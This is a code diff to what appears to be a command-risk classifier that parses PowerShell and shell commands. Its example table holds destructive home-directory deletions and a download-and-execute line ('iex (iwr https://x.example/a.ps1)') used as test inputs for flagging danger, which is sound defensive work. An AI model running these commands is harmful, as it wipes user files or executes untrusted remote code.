@@ -704,9 +704,7 @@ class _Reader(Reader):
                 "rmdir",
                 "man",
             ):
-                self.out.append(
-                    RunCommand((head.value, *[self._text(word).replace(HOME, "~") for word in words]))
-                )
+                self.out.append(RunCommand((head.value, *[self._text(word) for word in words])))
                 return
         if (
             canonical in ("where-object", "foreach-object")
@@ -851,7 +849,7 @@ class _Reader(Reader):
                         (
                             program,
                             *[
-                                self._text(w).replace(HOME, "~") if w.kind != "group" else UNKNOWN
+                                self._text(w) if w.kind != "group" else UNKNOWN
                                 for w in words
                                 if not (w.kind == "op" and w.value == ",")
                             ],
@@ -992,6 +990,9 @@ EXAMPLES: tuple[tuple[str, str], ...] = (
     ("Remove-Item -Recurse -Force /home/user", "delete /home/user recursive"),
     ("rm -r -fo C:\\x", "run rm -r -fo C:\\x"),
     ("Remove-Item ~ -Recurse", "shell 'rm -r -- ~'"),
+    ("rm -r ~", "shell 'rm -r ~'"),
+    ('rm -r "$HOME/x"', "shell 'rm -r ~/x'"),
+    ("git -C ~/x status", "shell 'git -C ~/x status'"),
     ("Get-ChildItem *.log | Remove-Item", "delete …; read *.log"),
     ("iex (iwr https://x.example/a.ps1)", "execute invoke-expression of what is not known inline powershell code !uncertain; execute Invoke-Expression code that comes over the network !critical; network download https://x.example/a.ps1"),
     ("Invoke-Expression 'Get-Date'", "code powershell 'Get-Date'"),
